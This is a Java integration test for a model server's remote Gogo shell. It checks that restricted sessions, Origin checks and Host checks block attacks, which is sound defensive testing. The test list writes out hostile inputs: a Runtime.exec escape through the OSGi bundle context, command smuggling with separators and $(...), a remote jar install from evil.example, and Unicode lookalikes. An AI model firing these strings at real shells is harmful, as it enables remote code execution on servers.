package dev.serval.distribution;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.serval.kernel.api.CommandShell;
import dev.serval.kernel.shell.RemoteShell;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The remote shell as an attacker meets it, over real sockets against the built server: another
 * site's page (a foreign {@code Origin}), a server without keys, Gogo's scripting in every
 * disguise, and names that are not the listener's ({@code Host}, as after DNS rebinding).
 */
class ShellSecurityIT {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path root;

    @Test
    void aRestrictedSessionRunsItsCommandsAndNoScript() throws Exception {
        try (ServerProcess server = ServerProcess.start(root, store())) {
            Path canary = root.resolve("pwned");
            // Gogo reaches Runtime.exec from the framework's bundle: the full shell runs this.
            String exec =
                    "((($.context bundle 0) loadClass java.lang.Runtime) getRuntime) exec \"touch " + canary + "\"";
            try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                assertTrue(ran(shell, "serval:list").startsWith("digits "));
                assertTrue(ran(shell, "lb -s").contains("|dev.serval.shell ("));
                assertTrue(ran(shell, "headers").contains("Bundle-SymbolicName = org.apache.felix.framework"));
                assertTrue(ran(shell, "help").contains("serval:scale"));

                for (String attack : List.of(
                        exec,
                        "lb;" + exec,
                        "lb ; " + exec,
                        "serval:list | " + exec,
                        "lb\n" + exec,
                        "lb\r\n" + exec,
                        "lb && " + exec,
                        "$.context",
                        "echo $.context",
                        "lb ($.context bundle 0)",
                        "lb {" + exec + "}",
                        "lb [" + exec + "]",
                        "\"lb\"",
                        "'lb'",
                        "lb \"$(touch " + canary + ")\"",
                        "lb \\",
                        "lb > " + canary,
                        "x = lb",
                        "lb ~",
                        "lb *",
                        "exit",
                        "install https://evil.example/x.jar",
                        "update 0 file:///tmp/x.jar",
                        "stop 0",
                        "uninstall 1",
                        "felix:install file:///tmp/x.jar",
                        "gogo:new java.lang.ProcessBuilder",
                        "LB",
                        "\uff4c\uff42",
                        "serv\u0430l:list",
                        "serval\uff1alist",
                        "lb\u00a0-s",
                        "lb\u2028stop 0",
                        "lb " + "x".repeat(60_000))) {
                    CommandShell.Outcome outcome = shell.execute(attack);
                    assertTrue(outcome.failed(), attack + " → " + outcome);
                    assertTrue(
                            outcome.output()
                                    .matches("(?s)(Character .* is refused: |The remote shell runs only |"
                                            + "The line is longer than ).*\n"),
                            outcome.output());
                }
                assertEquals(
                        "Model API is disabled: start with --enable-model-api or set enable_model_api=true\n",
                        refused(shell, "serval:register digits.mar"));
                refused(shell, "serval:unregister digits");
                assertTrue(ran(shell, "serval:list").startsWith("digits "), "the session goes on");
            }
            assertFalse(Files.exists(canary), "the shell ran a process");

            // Beyond Jetty's WebSocket message limit (64 KiB) the server closes the connection unread
            // (so it is not closed here again).
            RemoteShell huge = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")));
            assertTimeoutPreemptively(
                    Duration.ofSeconds(20),
                    () -> assertThrows(IOException.class, () -> huge.execute("lb " + "x".repeat(1 << 20))));
            try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                assertTrue(ran(shell, "serval:list").startsWith("digits "));
            }
        }
    }

    @Test
    void anUpgradeFromAnotherSitesPageIsRefused() throws Exception {
        try (ServerProcess server = ServerProcess.start(root, store())) {
            int port = server.managementPort;
            for (String origin : List.of(
                    "https://evil.example",
                    "http://evil.example:" + port,
                    "null",
                    "http://127.0.0.1:" + (port + 1),
                    "https://127.0.0.1:" + port,
                    "http://localhost.evil.example:" + port)) {
                RawHttp.Response foreign = upgrade(server, "127.0.0.1:" + port, "Origin: " + origin);
                assertError(foreign, 403, "ForbiddenException");
                assertTrue(foreign.body().contains(origin), foreign.body());
            }
            for (String origin :
                    List.of("http://127.0.0.1:" + port, "http://localhost:" + port, "http://[::1]:" + port)) {
                assertEquals(
                        101,
                        upgrade(server, "127.0.0.1:" + port, "Origin: " + origin)
                                .status(),
                        origin);
            }
            assertEquals(101, upgrade(server, "127.0.0.1:" + port).status(), "no Origin: not a browser");
        }
    }

    @Test
    void withoutKeysTheShellIsOff() throws Exception {
        try (ServerProcess server = ServerProcess.start(root, store(), "disable_token_authorization=true")) {
            assertError(upgrade(server, "127.0.0.1:" + server.managementPort), 403, "ForbiddenException");
            assertThrows(IOException.class, () -> RemoteShell.connect(shellUri(server), Optional.empty()));

            List<String> command = new ArrayList<>(List.of(
                    ServerProcess.DIST.resolve("bin/serval").toString(),
                    "shell",
                    "--config",
                    root.resolve("config.properties").toString(),
                    "serval:list"));
            Process process =
                    new ProcessBuilder(command).redirectErrorStream(true).start();
            String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertTrue(process.waitFor(30, TimeUnit.SECONDS), output);
            assertEquals(1, process.exitValue(), output);
            assertTrue(output.contains("enable_remote_shell=true"), output);
        }
    }

    @Test
    void enabledWithoutKeysItFollowsTheModelApiAndAllowedHosts() throws Exception {
        Path store = store();
        Archives.digits(store.resolve("digits2.mar"), "digits2", "1.0", "convnet_digits.pt", "image_classifier");
        try (ServerProcess server = ServerProcess.start(
                root,
                store,
                "load_models=digits.mar",
                "disable_token_authorization=true",
                "enable_remote_shell=true",
                "enable_model_api=true",
                "allowed_hosts=serval.test")) {
            try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.empty())) {
                assertEquals(
                        "Model \"digits2\" Version: 1.0 registered with 1 initial workers\n",
                        ran(shell, "serval:register digits2.mar"));
                assertEquals("Model \"digits2\" version 1.0 unregistered\n", ran(shell, "serval:unregister digits2"));
                refused(shell, "$.context");
            }
            for (int port : List.of(server.inferencePort, server.managementPort, server.metricsPort)) {
                for (String host : List.of(
                        "127.0.0.1:" + port,
                        "localhost:" + port,
                        "[::1]:" + port,
                        "LOCALHOST",
                        "serval.test:" + port)) {
                    assertEquals(
                            404,
                            RawHttp.send(port, "GET /nosuch", host, List.of()).status(),
                            host);
                }
                assertError(
                        RawHttp.send(port, "GET /nosuch", "other.test:" + port, List.of()),
                        421,
                        "MisdirectedRequestException");
            }
            assertEquals(
                    101,
                    upgrade(
                                    server,
                                    "serval.test:" + server.managementPort,
                                    "Origin: http://serval.test:" + server.managementPort)
                            .status());
        }
    }

    @Test
    void theWholeShellRunsWhatGogoRunsWhenAskedFor() throws Exception {
        try (ServerProcess server = ServerProcess.start(root, store(), "enable_remote_shell_code_execution=true")) {
            try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                assertEquals("org.apache.felix.framework\n", ran(shell, "($.context bundle 0) symbolicName"));
            }
            assertTrue(
                    server.log().contains("enable_remote_shell_code_execution=true lets whoever reaches it run code"),
                    "warned in the log");
        }
    }

    private Path store() throws IOException {
        Path store = Files.createDirectories(root.resolve("store"));
        Archives.digits(store.resolve("digits.mar"), "digits", "1.0", "convnet_digits.pt", "image_classifier");
        return store;
    }

    private static URI shellUri(ServerProcess server) {
        return URI.create("ws://127.0.0.1:" + server.managementPort + "/shell");
    }

    private static RawHttp.Response upgrade(ServerProcess server, String host, String... headers) throws IOException {
        List<String> lines = new ArrayList<>(RawHttp.UPGRADE);
        lines.addAll(List.of(headers));
        if (server.keyFile.toFile().exists()) {
            lines.add("Authorization: Bearer " + server.key("management"));
        }
        return RawHttp.send(server.managementPort, "GET /shell", host, lines);
    }

    private static String ran(RemoteShell shell, String line) throws Exception {
        CommandShell.Outcome outcome = shell.execute(line);
        assertFalse(outcome.failed(), line + " → " + outcome.output());
        return outcome.output();
    }

    private static String refused(RemoteShell shell, String line) throws Exception {
        CommandShell.Outcome outcome = shell.execute(line);
        assertTrue(outcome.failed(), line + " → " + outcome.output());
        return outcome.output();
    }

    private static void assertError(RawHttp.Response response, int status, String type) throws IOException {
        assertEquals(status, response.status(), response.body());
        JsonNode error = JSON.readTree(response.body());
        assertEquals(status, error.get("code").asInt(), response.body());
        assertEquals(type, error.get("type").asText(), response.body());
        assertFalse(error.get("message").asText().isBlank(), response.body());
    }
}
